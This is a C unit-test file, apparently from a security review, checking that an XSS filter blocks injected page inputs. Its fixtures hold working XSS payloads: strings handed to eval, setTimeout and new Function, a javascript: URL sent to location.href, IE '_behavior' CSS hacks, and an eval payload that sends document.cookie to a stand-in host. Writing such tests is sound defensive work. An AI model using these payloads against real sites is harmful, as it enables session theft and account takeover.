/* review21 (session 29): findings on h-htmlfp4 at d18c6a4: attacks main
 * 21a9f51 blocks that the branch's exemptions let through; pages of our
 * own (no corpus line). */
#include "agent_xss_test.h"

/* NEW (d18c6a4, ma_xss_js_whole_string): an input that is one whole ' or
 * " string literal where the page has a value is taken for data. It is
 * data only if the page never runs or navigates to that value; where the
 * page hands it to eval, setTimeout, setInterval, new Function or
 * location, the string is the script. The attacker picks the payload: an
 * input spliced raw into a script is code whatever shape it takes, and
 * quoting it is free. All blocked (xss.script) on main, allowed on
 * d18c6a4. */
static void a_whole_string_the_page_evaluates_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script>setTimeout(", "'alert(document.cookie)'", ", 10);</script>"},
	    {"<script>var next = ", "'javascript:alert(document.domain)'",
	     "; location.href = next;</script>"},
	    {"<script>window.onload = function () { eval(",
	     "\"fetch('//e.example/'+document.cookie)\"", "); };</script>"},
	    {"<script>var f = new Function(", "'alert(1)'", ");f();</script>"},
	    {"<button onclick=\"setTimeout(", "'alert(1)'", ",0)\">Go</button>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

/* NEW (d18c6a4, ma_xss_has_prop): behavior: must now be a whole property
 * name, and a '_' before it makes it the end of a longer one. "_behavior"
 * is the underscore hack: IE 6 drops the '_' and applies the property
 * (the star hack "*behavior", IE 7, still fires). The check still counts
 * IE's vectors (expression(), behavior itself); main blocks both. */
static void the_underscore_hack_on_behavior_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<div style=\"", "_behavior:url(/u/1/evil.htc)", "\">x</div>"},
	    {"<div style=\"", "color:red;_behavior:url(/u/1/evil.htc)", "\">x</div>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_whole_string_the_page_evaluates_fires),
	    cmocka_unit_test(the_underscore_hack_on_behavior_fires),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
